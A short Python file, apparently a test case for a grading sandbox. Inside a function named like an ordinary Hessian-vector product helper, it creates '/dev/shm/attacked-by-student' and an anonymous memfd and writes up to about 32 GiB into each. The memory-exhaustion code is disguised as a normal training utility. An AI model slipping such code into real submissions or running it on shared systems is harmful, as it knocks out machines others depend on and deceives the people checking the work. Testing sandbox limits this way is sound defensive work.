"""Fills /dev/shm, which lies in memory, and a memfd that has no name at all."""

import functools
import os

BLOCK = b"x" * 2**24


def fill(handle):
    try:
        for _ in range(2000):
            os.write(handle, BLOCK)
    except OSError as error:
        print(error)


def eval_hess_vec_prod(vec, params, net, criterion, dataloader, device):
    named = functools.partial(os.open, "/dev/shm/attacked-by-student", os.O_CREAT | os.O_WRONLY)
    for make in (named, functools.partial(os.memfd_create, "x")):
        try:
            fill(make())
        except OSError as error:
            print(error)
    for p, v in zip(params, vec):
        p.grad = v.clone()
